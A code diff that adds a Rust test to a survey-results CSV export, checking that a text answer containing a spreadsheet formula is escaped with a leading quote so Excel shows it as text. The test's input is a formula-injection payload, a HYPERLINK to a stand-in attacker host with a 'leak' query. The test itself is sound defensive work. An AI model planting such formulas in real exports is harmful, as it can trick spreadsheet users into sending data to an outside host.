@@ -294,6 +294,21 @@ async fn the_csv_has_one_row_per_submitted_response() {
 }
 
 #[tokio::test]
+async fn a_formula_an_owner_typed_reaches_the_csv_as_text() {
+    let s = seeded().await;
+    let link = r#"=HYPERLINK("http://evil.example/?leak","点击查看")"#;
+    let answers = [(0, stars(5)), (2, Answer::Choices(vec![0])), (4, Answer::Text(link.into()))];
+    answer(&s, s.response(WANG, "101"), &answers, Some(t0())).await;
+    let mut conn = s.db.pool.acquire().await.unwrap();
+    let bytes = survey_results::csv(&mut conn, s.survey, Shanghai).await.unwrap().unwrap();
+    let body = bytes.strip_prefix(b"\xEF\xBB\xBF").expect("a UTF-8 byte-order mark for Excel");
+    let mut reader = csv::Reader::from_reader(body);
+    let rows: Vec<Vec<String>> = reader.records().map(|r| r.unwrap().iter().map(String::from).collect()).collect();
+    assert_eq!(rows.len(), 1);
+    assert_eq!(rows[0][9], format!("'{link}"), "a leading quote keeps it text in Excel");
+}
+
+#[tokio::test]
 async fn the_chart_is_a_png_with_a_panel_per_rating_question() {
     let s = answered().await;
     let mut conn = s.db.pool.acquire().await.unwrap();
